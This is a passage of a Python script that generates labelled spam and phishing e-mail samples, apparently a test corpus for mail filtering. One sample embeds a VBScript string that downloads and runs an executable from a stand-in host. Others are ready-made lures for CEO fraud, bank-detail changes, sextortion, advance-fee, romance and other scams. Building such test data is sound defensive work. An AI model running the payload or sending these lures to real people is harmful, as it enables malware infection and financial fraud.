# 34 "invoice overdue", a OneNote file
hta2 = '<script language="VBScript">CreateObject("WScript.Shell").Run "curl -o %TEMP%\\i.exe https://cdn-fileshare.icu/i.exe & %TEMP%\\i.exe",0</script>'
m = base("Rachel Dunn <ads@wexburygazette.co.uk>", "accounts@harbourandco-homes.co.uk",
         "Invoice INV-2026-4471 - payment overdue", 42)
text_only(m, """Hi,

Please see attached invoice INV-2026-4471, which is now overdue. Kindly double click to open the document and arrange payment today.

Thanks,
Rachel""")
att(m, "INV-2026-4471.one", onenote_bytes("open.hta", hta2.encode(), "https://cdn-fileshare.icu/inv/view"))
save(m, "spam", "34_invoice_overdue_onenote_attachment")

# 35 "purchase order", a 7z with encrypted names and an RTF with an embedded object
rtf = ("{\\rtf1\\ansi\\ansicpg1252\\deff0{\\fonttbl{\\f0 Calibri;}}\\f0\\fs22 Purchase Order PO-26-0419\\par\n"
       "{\\object\\objemb\\objupdate{\\*\\objclass Equation.3}\\objw380\\objh260{\\*\\objdata "
       "01050000020000000b0000004571756174696f6e2e3300000000000000000000"
       + "".join(random.choice("0123456789abcdef") for _ in range(3000)) + "}}\\par}\n")
m = base("Min-ji Park <m.park@northbridge-translations.co.uk>", "sales@kellner-industrietechnik.de",
         "RFQ / Purchase Order PO-26-0419 - please confirm", 84)
text_only(m, """Dear Sir/Madam,

Kindly find attached our purchase order PO-26-0419 and the technical specifications. Please confirm availability, best price and delivery time at your earliest convenience.

The archive password is: PO0419

Best regards,
Min-ji Park
Procurement""")
att(m, "PO-26-0419.7z", sevenzip_bytes())
att(m, "PO-26-0419_specifications.rtf", rtf)
save(m, "spam", "35_purchase_order_7z_exe_and_rtf_object")


# ==== business e-mail compromise ============================================

# 36 gift cards from the boss, Reply-To on Gmail
m = base("Jonas Weber <jonas.weber@stromrad.de>", "lisa.maier@stromrad.de", "Kurze Frage", 1.5,
         reply_to="Jonas Weber <jonas.weber.stromrad@gmail.com>")
roundcube(m, """Hallo Lisa,

bist du gerade am Platz? Ich bin in einem Termin und kann nicht telefonieren, brauche aber schnell deine Hilfe bei etwas Vertraulichem.

Ich möchte ein paar Stammkunden mit Geschenkkarten überraschen. Kannst du heute noch 8 Apple-Geschenkkarten à 100 € besorgen (Rewe oder Saturn)? Rubbel die Codes frei, mach ein Foto von allen Karten und schick es mir hier. Den Betrag bekommst du morgen zurück.

Bitte sag den anderen noch nichts, soll eine Überraschung sein.

Danke dir!
Jonas

Von meinem iPhone gesendet""")
save(m, "spam", "36_bec_ceo_gift_cards_reply_to_gmail")

# 37 "our bank account has changed" to all customers (Bcc), with an invoice, Reply-To lookalike
m = base('"Autoservis Doležal - servis" <servis@autoservis-dolezal.cz>', "servis@autoservis-dolezal.cz",
         "DŮLEŽITÉ: změna bankovního spojení / Faktura k úhradě", 7,
         reply_to="servis@autoservis-dolezal.com")
roundcube(m, """Vážení zákazníci,

dovolujeme si Vás informovat, že z důvodu probíhajícího auditu je náš dosavadní účet u Fio banky dočasně zablokován. Od dnešního dne prosím veškeré platby (včetně již vystavených a neuhrazených faktur) zasílejte výhradně na náš nový účet:

IBAN: LT80 3250 0471 8820 3318
BIC: REVOLT21
Majitel účtu: Autoservis Dolezal s.r.o.

Platby odeslané na starý účet nebudou připsány a budou vráceny. V příloze zasíláme fakturu k úhradě s aktualizovanými platebními údaji, prosíme o úhradu do 3 dnů.

Pro jakékoli dotazy nás kontaktujte pouze e-mailem, telefonní linky jsou z technických důvodů mimo provoz.

S pozdravem
Autoservis Doležal s.r.o.
účtárna""")
att(m, "Faktura_2026-1203.pdf", pdf_bytes("Faktura 2026-1203 - IBAN LT80 3250 0471 8820 3318"))
save(m, "spam", "37_bec_iban_change_all_customers_bcc_invoice_pdf")

# 38 payroll diversion from an employee's account
m = base("Sarah Okafor <s.okafor@northbridge-translations.co.uk>", "payroll@ledgerwise-accounting.co.uk",
         "Change of bank details before this month's payroll", 52)
outlook(m, """Hi,

I have recently switched banks and would like my salary for this month to be paid into my new account. Could you please update my details before the payroll run?

Account name: Sarah Okafor
Bank: Monzo
Sort code: 04-00-04
Account number: 71843302

Please let me know once this has been updated. I'm out of the office today, so email is best.

Many thanks,
Sarah""", lang="en-gb")
save(m, "spam", "38_bec_payroll_diversion_no_links")

# 39 urgent wire for an acquisition, a lawyer's name, Reply-To on a lookalike domain
m = base("Oliver Hart <oliver@quillmetrics.io>", "finance@quillmetrics.io",
         "Confidential - Project Heron", 2.5, reply_to="Oliver Hart <oliver.hart@quillmetrics-io.com>")
text_only(m, """Hi Emma,

I need your discretion on something. We are in the final stage of acquiring a Dutch competitor (Project Heron). The deal is under NDA until the announcement, so please do not discuss this with anyone in the team, including Jonas.

Our lawyer, mr. Pieter van Dijk of Van Dijk & Partners Advocaten in Amsterdam, will contact you shortly with the escrow details. We need to wire the first tranche of EUR 186,400 today before 15:00 CET to secure the deal.

Please reply only to this email, I am in meetings all day and can't take calls.

Thanks for your help,
Oliver

Sent from my iPhone""")
save(m, "spam", "39_bec_urgent_wire_acquisition_lawyer_lookalike_reply_to")


# ==== scams ==================================================================

# 40 UN compensation / inheritance / lottery (advance fee)
m = base('"United Nations Compensation Unit" <o.aleksij@nikolai-gemeinde-ms.de>', "undisclosed-recipients:;",
         "ATTENTION BENEFICIARY: your compensation payment of USD 2,500,000.00", 90,
         reply_to='"Dr. Mark Edwards" <un.compensation.desk@proton.me>')
text_only(m, """UNITED NATIONS COMPENSATION COMMISSION
Palais des Nations, Geneva

Attention Beneficiary,

This is to inform you that your email address was selected among the beneficiaries of the 2026 United Nations compensation programme for victims of internet fraud, unclaimed inheritance funds and international lottery winnings. Your compensation fund of USD 2,500,000.00 (Two Million Five Hundred Thousand United States Dollars) has been approved for release.

Your payment will be released through an ATM Visa card which will be delivered to you by diplomatic courier. To proceed, reconfirm the following details to our payment officer, Dr. Mark Edwards:

1. Full name
2. Home address
3. Phone number
4. Age and occupation
5. Copy of passport or ID card

Note that a small processing fee of USD 285 is required for the courier and the anti-terrorism clearance certificate.

Yours faithfully,
Mrs. Catherine Lawson
Secretary, UN Compensation Commission""")
save(m, "spam", "40_advance_fee_un_compensation_inheritance_lottery")

# 41 romance / dating
m = base('"Anna" <karin@andrumyoga.se>', "thomas.berg61@gmail.com", "Hello dear, I saw your profile", 100,
         reply_to="anna.sweetlove1994@outlook.com")
text_only(m, """Hello dear,

How are you today? I hope you don't mind me writing to you. My name is Anna, I am 31 years old, I live in Kyiv but I am working now in Spain as a nurse. I saw your profile and I liked your kind smile very much, you look like a serious and honest man.

I am looking for a man for serious relationship, age is not important for me, important is the heart. I am romantic, I like cooking, long walks by the sea and quiet evenings at home.

You can see my photos here: https://anna-k-1994.github.io/photos/

If you want to know me better, please write to my private email anna.sweetlove1994@outlook.com, I will send you more photos and tell you about myself.

I am waiting for your answer with impatience.
Kisses, Anna""")
save(m, "spam", "41_romance_dating_github_io_reply_to")

# 42 AI crypto trading, German, a Framer site
u = "https://quantum-ai-trading-de.framer.website/?sub=" + ralnum(8)
m = base('"Finanz-News Deutschland" <praxis@tierarzt-kirchberg.de>', "h.schreiber@t-online.de",
         "KI-Trading: Wie ein Freiburger Rentner 4.780 € pro Woche verdient", 76)
both(m, """Exklusiv: Wie ein Rentner aus Freiburg mit künstlicher Intelligenz 4.780 € pro Woche verdient

Die neue KI-Plattform "Quantum AI" handelt automatisch mit Bitcoin, Ethereum und Aktien und erzielt laut Nutzern Renditen von bis zu 87 %% im Monat. Schon mit einer Einzahlung von 250 € können Sie starten - die KI erledigt den Rest.

Die Banken wollen nicht, dass Sie davon erfahren. Die Anmeldung ist nur noch heute kostenlos, die Plätze für Deutschland sind begrenzt!

Jetzt kostenlos registrieren: %s

Risikohinweis: Vergangene Gewinne sind keine Garantie für zukünftige Ergebnisse.""" % u,
     '<html><body style="font-family:Georgia,serif;max-width:600px;margin:auto">'
     '<p style="color:#c00;font-weight:bold;font-family:Arial">EXKLUSIV</p>'
     '<h1>Wie ein Rentner aus Freiburg mit künstlicher Intelligenz 4.780 € pro Woche verdient</h1>'
     '<p>Die neue KI-Plattform <b>"Quantum AI"</b> handelt automatisch mit Bitcoin, Ethereum und Aktien und erzielt laut Nutzern '
     'Renditen von bis zu <b>87 %% im Monat</b>. Schon mit einer Einzahlung von 250 € können Sie starten.</p>'
     '<p>Die Banken wollen nicht, dass Sie davon erfahren. Die Anmeldung ist nur noch heute kostenlos!</p>'
     '<p style="text-align:center"><a href="%s" style="background:#1a9c3e;color:#fff;padding:14px 28px;font-family:Arial;font-weight:bold;text-decoration:none">'
     'JETZT KOSTENLOS REGISTRIEREN</a></p><p style="font-size:11px;color:#888">Risikohinweis: Vergangene Gewinne sind keine Garantie.</p></body></html>' % u)
save(m, "spam", "42_crypto_ai_investment_de_framer")

# 43 sextortion with a Bitcoin address, no links
m = base("newsroom@wexburygazette.co.uk", "p.hughes@ntlworld.com", "Your account has been hacked - pay attention", 115)
text_only(m, """Hello,

I have some bad news for you. Some months ago I gained access to your devices through a malware installed on a website you visited. Since then I have been watching your activity.

I recorded you through your webcam while you were visiting adult websites, and I have the video next to what you were watching. I also have all your contacts from your email and social networks.

If you want me to delete this, transfer 1450 USD in Bitcoin to my wallet:

bc1q8c6xk0v4hz7yq9w3m2l5tjf0ns4e8r2dqkx7p3

You have 48 hours from the moment you opened this email. I can see when you read it. If I don't receive the payment, the video will be sent to all your contacts and posted online.

Do not reply to this email and do not go to the police, it will not help you.""")
save(m, "spam", "43_sextortion_bitcoin_no_links")

# 44 domain expiry and "SEO submission" invoice, Cloudflare Pages
u = "https://domain-seo-renewal.pages.dev/?d=bluepine.cz&inv=" + str(random.randint(100000, 999999))
m = base('"Domain Services - Renewal Dept." <rezervace@autoservis-dolezal.cz>', "info@bluepine.cz",
         "FINAL NOTICE: Domain name expiration - bluepine.cz", 130)
both(m, """DOMAIN NAME EXPIRATION NOTICE

Domain: bluepine.cz
Invoice: 682231
Amount due: USD 86.00
Term: 11/28/2026 - 11/28/2027

ATTENTION: Your domain bluepine.cz search engine submission (SEO) services are about to expire. Failure to complete your renewal by 11/30/2026 may result in the loss of your online presence, search engine rankings and email services.

Secure online payment: %s

This is not a bill. This notice is to inform you of your search engine submission. You are under no obligation to pay unless you accept this offer.""" % u,
     '<html><body style="font-family:Arial,sans-serif"><h2 style="color:#b00">DOMAIN NAME EXPIRATION NOTICE</h2>'
     '<table border="1" cellpadding="6" style="border-collapse:collapse"><tr><td>Domain</td><td><b>bluepine.cz</b></td></tr>'
     '<tr><td>Invoice</td><td>682231</td></tr><tr><td>Amount due</td><td><b>USD 86.00</b></td></tr>'
     '<tr><td>Term</td><td>11/28/2026 - 11/28/2027</td></tr></table>'
     '<p><b>ATTENTION:</b> Your domain bluepine.cz search engine submission (SEO) services are about to expire. '
     'Failure to complete your renewal by 11/30/2026 may result in the loss of your online presence.</p>'
     '<p><a href="%s" style="background:#b00;color:#fff;padding:10px 20px;text-decoration:none">RENEW NOW</a></p>'
     '<p style="font-size:10px;color:#999">This is not a bill. This notice is to inform you of your search engine submission. '
     'You are under no obligation to pay unless you accept this offer.</p></body></html>' % u)
save(m, "spam", "44_domain_expiry_seo_invoice_pages_dev")

# 45 callback phishing: PayPal invoice for Norton, a phone number, no link
m = base('"PayPal" <ketoan@maihien-cowork.vn>', "sandra.kelly@aol.com",
         "Receipt for your payment to NortonLifeLock Inc. - $399.99", 25)
both(m, """PayPal

Hello Sandra Kelly,

You sent a payment of $399.99 USD to NortonLifeLock Inc.

Invoice ID: NL-2026-118847
Item: Norton 360 Deluxe + McAfee Total Protection bundle, 5 devices, 3-year auto-renewal
Total: $399.99 USD
Transaction date: Nov 27, 2026

It may take a few moments for this transaction to appear in your account.

If you did not authorize this transaction or want to cancel the auto-renewal and receive a refund, please call our billing department within 24 hours:
+1 (808) 555-0192 (toll free, Mon-Sun 24/7)

PayPal Billing Department""",
     '<html><body style="font-family:Helvetica,Arial,sans-serif;font-size:14px"><div style="max-width:560px;margin:auto">'
     '<p style="font-size:26px;font-weight:bold;color:#003087">Pay<span style="color:#009cde">Pal</span></p>'
     '<p>Hello Sandra Kelly,</p><p>You sent a payment of <b>$399.99 USD</b> to NortonLifeLock Inc.</p>'
     '<table cellpadding="4"><tr><td>Invoice ID</td><td>NL-2026-118847</td></tr>'
     '<tr><td>Item</td><td>Norton 360 Deluxe + McAfee Total Protection bundle, 5 devices, 3-year auto-renewal</td></tr>'
     '<tr><td>Total</td><td><b>$399.99 USD</b></td></tr><tr><td>Date</td><td>Nov 27, 2026</td></tr></table>'
     '<p>If you did not authorize this transaction or want to cancel the auto-renewal and receive a refund, please call our billing department within 24 hours:</p>'
     '<p style="font-size:20px;font-weight:bold">+1 (808) 555-0192</p><p>PayPal Billing Department</p></div></body></html>')
save(m, "spam", "45_callback_paypal_norton_mcafee_phone_no_link")

# 46 pharma through a newsletter service's click-tracking redirect
u = "https://u4471020.ct.sendgrid.net/ls/click?upn=u001.%s-2F%s&__=" % (ralnum(60), ralnum(40))
m = base('"Men\'s Health Pharmacy" <sujin.lee@sorinamu-music.kr>', "undisclosed-recipients:;",
         "Up to 80% off Viagra & Cialis - no prescription needed", 140)
both(m, """Canadian Men's Health Pharmacy

Viagra 100mg from $0.89 per pill
Cialis 20mg from $1.12 per pill
Levitra, Kamagra oral jelly, Propecia

No prescription needed - discreet packaging - worldwide shipping - bonus pills with every order

Order now: %s""" % u,
     '<html><body style="font-family:Arial"><h2 style="color:#0066cc">Canadian Men\'s Health Pharmacy</h2>'
     '<p><b>Viagra 100mg</b> from $0.89 per pill<br><b>Cialis 20mg</b> from $1.12 per pill<br>Levitra, Kamagra oral jelly, Propecia</p>'
     '<p>No prescription needed &middot; discreet packaging &middot; worldwide shipping &middot; bonus pills with every order</p>'
     '<p><a href="%s"><b>ORDER NOW - UP TO 80%% OFF</b></a></p></body></html>' % u)
save(m, "spam", "46_pharma_sendgrid_tracking_redirect")

# 47 casino, German, a URL shortener
u = "https://bit.ly/3Kx9PqZ"
m = base('"Jackpot Palace" <a.hoffmann@tierarzt-kirchberg.de>', "undisclosed-recipients:;",
         "Dein Bonus wartet: 500 € + 200 Freispiele 🎰", 160)
text_only(m, """Hallo!

Nur für kurze Zeit: Bei Jackpot Palace bekommst du 500 € Willkommensbonus und 200 Freispiele auf Book of Dead - ohne Einzahlung!

Schnelle Auszahlungen in unter 5 Minuten, keine Verifizierung, keine Limits.

Jetzt Bonus sichern: %s

18+ | Spiele verantwortungsvoll.""" % u)
save(m, "spam", "47_casino_bonus_de_url_shortener")

# 48 loan offer, French, a link to an IP address
u = "http://185.212.47.19/pret/formulaire.php?id=" + str(random.randint(1000, 9999))
m = base('"Crédit Express Particuliers" <info@sorinamu-music.kr>', "undisclosed-recipients:;",
         "Prêt entre particuliers à 2% - réponse en 24h", 170, reply_to="credit.express.particuliers@gmail.com")
text_only(m, """Bonjour,

Vous avez besoin d'un prêt pour réaliser vos projets, rembourser vos dettes ou financer un achat immobilier ? Je suis un particulier sérieux et je propose des prêts de 5 000 € à 500 000 € à un taux de 2 %% seulement, remboursables sur 1 à 25 ans.

Aucune vérification de solvabilité, fichage Banque de France accepté, réponse sous 24h.

Remplissez le formulaire de demande : %s

ou répondez simplement à cet e-mail avec le montant souhaité et la durée.

Cordialement,
M. Laurent Girard""" % u)
save(m, "spam", "48_loan_offer_fr_ip_address_link")

# 49 stock promotion to 120 recipients in To, no links
tos = addr_list(120)
m = base("Mike Trujillo <mike@cedarvalleyplumbing.com>", ", ".join(tos),
         "NVQX: this AI chip stock is about to explode (900% upside)", 150)
text_only(m, """MARKET ALERT - IMMEDIATE ATTENTION

Company: NovaQuanta Semiconductor Corp.
Symbol: NVQX (OTC Pink)
Current price: $0.18
12-month target: $1.65 (+900%)

NovaQuanta is about to announce a supply agreement for its AI inference chips with a Fortune 500 cloud provider. Insiders have been buying heavily and volume is up 1,400% this week. When the news hits the wires, this stock will not stay under $1.

Early investors in similar AI names made 20x in weeks. Do not miss this one. Get in before Monday's open!

NVQX - remember the name.

This is a paid advertisement. We have been compensated USD 75,000 by a third party for this message.""")
save(m, "spam", "49_stock_promotion_120_recipients_in_to")

# 50 hijacked reply chain: an earlier real thread, then a zip on a compromised WordPress site
u = "https://www.lakeshore-dental-care.com/wp-content/uploads/2026/11/Documents_88Linden_%s.zip" % random.randint(1000, 9999)
m = base("Mike Trujillo <mike@cedarvalleyplumbing.com>", "Paul Nguyen <paul.nguyen@outlook.com>",
         "RE: Estimate - boiler replacement, 88 Linden Ave SE", 0.7)
parent = outlook_msgid(m._t - 200000, "outlook.com")
reply_to_parent = outlook_msgid(m._t - 300000, "cedarvalleyplumbing.com")
m["In-Reply-To"] = parent
m["References"] = reply_to_parent + " " + parent
outlook(m, """Hello Paul,

Please see the updated documents for the boiler replacement, including the revised estimate and the permit form to sign:

%s

Let me know if you have any trouble opening it.

Regards

From: Paul Nguyen <paul.nguyen@outlook.com>
Sent: Thursday, November 26, 2026 7:48 PM
To: Mike Trujillo <mike@cedarvalleyplumbing.com>
Subject: RE: Estimate - boiler replacement, 88 Linden Ave SE

Hi Mike,

Thanks for the estimate and the photos. We'd like to go with option B (the Navien combi boiler). Is the week of December 14 still possible? And do we need to be home while you work?

Paul

From: Mike Trujillo <mike@cedarvalleyplumbing.com>
Sent: Monday, November 23, 2026 4:12 PM
To: Paul Nguyen <paul.nguyen@outlook.com>
Subject: Estimate - boiler replacement, 88 Linden Ave SE

Hi Paul,

Thanks for walking me through the basement on Monday. As promised, here is the estimate for replacing the old boiler, plus a couple of photos of what I found.

Option A - Weil-McLain WGO-4 oil boiler, same location: $7,950
Option B - Navien NHB-150H high-efficiency gas combi boiler, incl. new venting and gas line: $11,480

Mike Trujillo
Lead Technician, Cedar Valley Plumbing & Heating
(319) 555-0148 ext. 3""" % u, lang="en-us")
save(m, "spam", "50_reply_chain_hijack_zip_on_compromised_wordpress")
